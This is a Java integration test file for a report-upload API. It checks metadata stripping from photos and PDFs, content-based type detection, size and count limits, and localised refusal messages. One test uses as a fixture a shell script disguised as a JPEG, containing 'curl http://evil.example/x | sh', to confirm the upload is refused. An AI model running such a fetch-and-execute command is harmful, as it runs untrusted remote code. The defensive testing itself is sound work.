package org.tawasul.reporting;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import javax.imageio.ImageIO;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.tawasul.TawasulTest;
import org.tawasul.platform.blob.BlobStore;
import org.tawasul.reporting.internal.TrackingCode;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;

/** Attachments: type from content, metadata removed, refusals explained, the report kept whatever happens to files. */
@TawasulTest
class ReportUploadsTest {

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	BlobStore blobs;

	private final HttpClient http = HttpClient.newHttpClient();

	private final JsonMapper json = JsonMapper.builder().build();

	HttpResponse<String> send(Multipart multipart, String language) throws Exception {
		HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/reports"))
			.header("Content-Type", multipart.contentType())
			.header("Accept-Language", language)
			.POST(HttpRequest.BodyPublishers.ofByteArray(multipart.bytes()))
			.build();
		return http.send(request, HttpResponse.BodyHandlers.ofString());
	}

	List<Map<String, Object>> attachments(String code) {
		return jdbc.sql("""
				select a.media_type, a.sha256, a.original_sha256, a.size_bytes from reporting.attachment a
				join reporting.report r on r.id = a.report_id where r.tracking_hash = ? order by a.position""")
			.param(TrackingCode.parse(code).orElseThrow().hash())
			.query()
			.listOfRows();
	}

	@Test
	void aPhotoLosesItsGpsMetadataAndIsTurnedUpright() throws Exception {
		byte[] photo = Images.jpegWithGps(40, 20);
		assertThat(Images.contains(photo, Images.SECRET)).isTrue();

		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
			.file("files", "IMG_0042.jpg", "image/jpeg", photo), "en");

		assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
		String code = json.readTree(response.body()).get("trackingCode").asString();
		assertThat(json.readTree(response.body()).get("refusedFiles").size()).as(response.body()).isZero();
		Map<String, Object> stored = attachments(code).getFirst();
		assertThat(stored.get("media_type")).isEqualTo("image/jpeg");
		assertThat(stored.get("sha256")).isNotEqualTo(stored.get("original_sha256"));
		byte[] kept;
		try (InputStream in = blobs.open(stored.get("sha256").toString())) {
			kept = in.readAllBytes();
		}
		assertThat(Images.contains(kept, "Exif")).isFalse();
		assertThat(Images.contains(kept, Images.SECRET)).isFalse();
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(kept));
		assertThat(image.getWidth()).isEqualTo(20); // orientation 6: a quarter turn
		assertThat(image.getHeight()).isEqualTo(40);
	}

	@Test
	void aWebpPhotoIsKeptAsJpegWithoutItsMetadata() throws Exception {
		// made with cwebp from a 40 x 20 picture, with an EXIF chunk added by webpmux
		byte[] photo = resource("/uploads/photo-with-exif.webp");
		assertThat(Images.contains(photo, Images.SECRET)).isTrue();

		Map<String, Object> stored = keptAttachment(photo, "IMG-20261205-WA0007.webp");

		assertThat(stored.get("media_type")).isEqualTo("image/jpeg");
		byte[] kept = blob(stored);
		assertThat(Images.contains(kept, Images.SECRET)).isFalse();
		assertThat(Images.contains(kept, "Exif")).isFalse();
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(kept));
		assertThat(image.getWidth()).isEqualTo(40);
		assertThat(image.getHeight()).isEqualTo(20);
	}

	@Test
	void aTransparentWebpIsKeptAsPngWithItsTransparency() throws Exception {
		Map<String, Object> stored = keptAttachment(resource("/uploads/transparent-sticker.webp"), "sticker.webp");

		assertThat(stored.get("media_type")).isEqualTo("image/png");
		BufferedImage image = ImageIO.read(new ByteArrayInputStream(blob(stored)));
		assertThat(image.getWidth()).isEqualTo(30);
		assertThat(image.getColorModel().hasAlpha()).isTrue();
		assertThat(image.getRGB(0, 0) >>> 24).as("alpha of the first column").isZero();
	}

	@Test
	void aPdfLosesItsAuthorAndMetadataAndKeepsItsPages() throws Exception {
		byte[] pdf;
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			document.addPage(new PDPage());
			document.getDocumentInformation().setAuthor("Fatima Zahra Bennani");
			document.getDocumentInformation().setCreator("CamScanner");
			PDMetadata xmp = new PDMetadata(document);
			xmp.importXMPMetadata(("<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">" + Images.SECRET + "</x:xmpmeta>")
				.getBytes(StandardCharsets.UTF_8));
			document.getDocumentCatalog().setMetadata(xmp);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.save(out, CompressParameters.NO_COMPRESSION);
			pdf = out.toByteArray();
		}
		assertThat(Images.contains(pdf, "Fatima Zahra Bennani")).isTrue();
		assertThat(Images.contains(pdf, Images.SECRET)).isTrue();

		Map<String, Object> stored = keptAttachment(pdf, "scan.pdf");

		assertThat(stored.get("media_type")).isEqualTo("application/pdf");
		assertThat(stored.get("sha256")).isNotEqualTo(stored.get("original_sha256"));
		try (PDDocument kept = Loader.loadPDF(blob(stored))) {
			assertThat(kept.getNumberOfPages()).isEqualTo(2);
			assertThat(kept.getDocumentInformation().getAuthor()).isNull();
			assertThat(kept.getDocumentInformation().getCreator()).isNull();
			assertThat(kept.getDocumentCatalog().getMetadata()).isNull();
		}
	}

	@Test
	void aPdfThatDoesNotParseIsKeptAsSent() throws Exception {
		byte[] broken = "%PDF-1.7\nnot the body of a PDF, only its signature\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);

		Map<String, Object> stored = keptAttachment(broken, "broken.pdf");

		assertThat(stored.get("media_type")).isEqualTo("application/pdf");
		assertThat(stored.get("sha256")).isEqualTo(stored.get("original_sha256"));
	}

	private Map<String, Object> keptAttachment(byte[] file, String name) throws Exception {
		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
			.file("files", name, "application/octet-stream", file), "ar");
		assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
		assertThat(json.readTree(response.body()).get("refusedFiles").size()).as(response.body()).isZero();
		return attachments(json.readTree(response.body()).get("trackingCode").asString()).getFirst();
	}

	private byte[] blob(Map<String, Object> stored) throws Exception {
		try (InputStream in = blobs.open(stored.get("sha256").toString())) {
			return in.readAllBytes();
		}
	}

	private static byte[] resource(String path) throws Exception {
		try (InputStream in = ReportUploadsTest.class.getResourceAsStream(path)) {
			assertThat(in).as(path).isNotNull();
			return in.readAllBytes();
		}
	}

	@Test
	void aScriptNamedLikeAPhotoIsRefusedWithAReasonAndTheReportIsKept() throws Exception {
		byte[] script = "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes();

		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
			.file("files", "photo.jpg", "image/jpeg", script)
			.file("files", "capture.png", "image/png", Images.png(30, 30)), "fr");

		assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
		JsonNode body = json.readTree(response.body());
		JsonNode refused = body.get("refusedFiles");
		assertThat(refused.size()).isEqualTo(1);
		assertThat(refused.get(0).get("name").asString()).isEqualTo("photo.jpg");
		assertThat(refused.get(0).get("reason").asString()).contains("Type de fichier refusé", "application/x-sh");
		String code = body.get("trackingCode").asString();
		assertThat(attachments(code)).singleElement()
			.satisfies(a -> assertThat(a.get("media_type")).isEqualTo("image/png"));
		HttpResponse<String> tracked = http.send(HttpRequest
			.newBuilder(URI.create("http://localhost:" + port + "/api/v1/reports/" + code))
			.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(json.readTree(tracked.body()).get("attachments").asInt()).isEqualTo(1);
	}

	@Test
	void filesBeyondTheAllowedCountAreRefused() throws Exception {
		Multipart multipart = new Multipart().json("report", ReportsApiTest.VALID);
		for (int i = 0; i < 6; i++) {
			multipart.file("files", "shot" + i + ".png", "image/png", Images.png(10 + i, 10));
		}
		HttpResponse<String> response = send(multipart, "en");

		assertThat(response.statusCode()).isEqualTo(201);
		JsonNode refused = json.readTree(response.body()).get("refusedFiles");
		assertThat(refused.size()).isEqualTo(1);
		assertThat(refused.get(0).get("reason").asString()).contains("at most 5");
	}

	@Test
	void anImageLargerThanItsLimitIsRefusedAndTheRestKept() throws Exception {
		byte[] big = new byte[11 * 1024 * 1024];
		byte[] png = Images.png(10, 10);
		System.arraycopy(png, 0, big, 0, png.length);
		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
			.file("files", "huge.png", "image/png", big), "en");

		assertThat(response.statusCode()).isEqualTo(201);
		assertThat(json.readTree(response.body()).get("refusedFiles").get(0).get("reason").asString())
			.contains("too large", "10 MB");
	}

	@Test
	void anUnreadableReportPartIsAProblem() throws Exception {
		HttpResponse<String> response = send(new Multipart().json("report", "{not json"), "en");

		assertThat(response.statusCode()).isEqualTo(400);
		assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
				type -> assertThat(type).startsWith("application/problem+json"));
		assertThat(response.body()).contains("report part could not be read");
	}

	@Test
	void aMultipartRequestWithoutItsReportPartIsALocalisedProblem() throws Exception {
		HttpResponse<String> response = send(new Multipart().file("files", "a.png", "image/png", Images.png(5, 5)), "fr");

		assertThat(response.statusCode()).isEqualTo(400);
		assertThat(response.body()).contains("La partie report (JSON) manque");
	}

	@Test
	void aVideoLargerThanItsLimitIsRefusedAndTheReportKept() throws Exception {
		byte[] film = new byte[26 * 1024 * 1024];
		byte[] ftyp = { 0, 0, 0, 0x18, 'f', 't', 'y', 'p', 'm', 'p', '4', '2', 0, 0, 0, 0, 'm', 'p', '4', '2', 'i', 's',
				'o', 'm' };
		System.arraycopy(ftyp, 0, film, 0, ftyp.length);
		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
			.file("files", "film.mp4", "video/mp4", film), "en");

		assertThat(response.statusCode()).isEqualTo(201);
		assertThat(json.readTree(response.body()).get("refusedFiles").get(0).get("reason").asString())
			.contains("too large", "25 MB");
	}

	/**
	 * Starts a multipart request that announces {@code length} bytes and streams them as a browser would, while
	 * reading the answer; the server answers early and closes the connection, so the upload stops with it.
	 */
	private String announce(String path, long length, String language, String accept) throws Exception {
		try (java.net.Socket socket = new java.net.Socket("localhost", port)) {
			socket.setSoTimeout(30_000);
			java.io.OutputStream out = socket.getOutputStream();
			out.write(("POST " + path + " HTTP/1.1\r\nHost: localhost\r\n"
					+ "Content-Type: multipart/form-data; boundary=x\r\nAccept-Language: " + language + "\r\n"
					+ "Accept: " + accept + "\r\nContent-Length: " + length + "\r\nConnection: close\r\n\r\n")
				.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
			java.util.concurrent.CompletableFuture<Long> sent = java.util.concurrent.CompletableFuture.supplyAsync(() -> {
				byte[] chunk = new byte[64 * 1024];
				long written = 0;
				try {
					while (written < length) {
						out.write(chunk);
						written += chunk.length;
					}
				}
				catch (java.io.IOException closedByServer) {
					return written;
				}
				return written;
			});
			String answer = new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
			assertThat(sent.get()).isLessThan(length); // the server did not read the whole body
			return answer;
		}
	}

	@Test
	void aRequestLargerThanTheServerAcceptsIsAProblemNotAnError() throws Exception {
		String answer = announce("/api/v1/reports", 200L * 1024 * 1024, "en", "application/json");

		assertThat(answer).startsWith("HTTP/1.1 413");
		assertThat(answer).contains("application/problem+json", "larger than allowed");
	}

	@Test
	void aFormTooLargeToReadGetsTheTooLargePageNotAFormExpiredRefusal() throws Exception {
		String answer = announce("/report", 200L * 1024 * 1024, "fr", "text/html");

		assertThat(answer).startsWith("HTTP/1.1 413");
		assertThat(answer).contains("text/html", "dépasse la limite autorisée");
	}
}
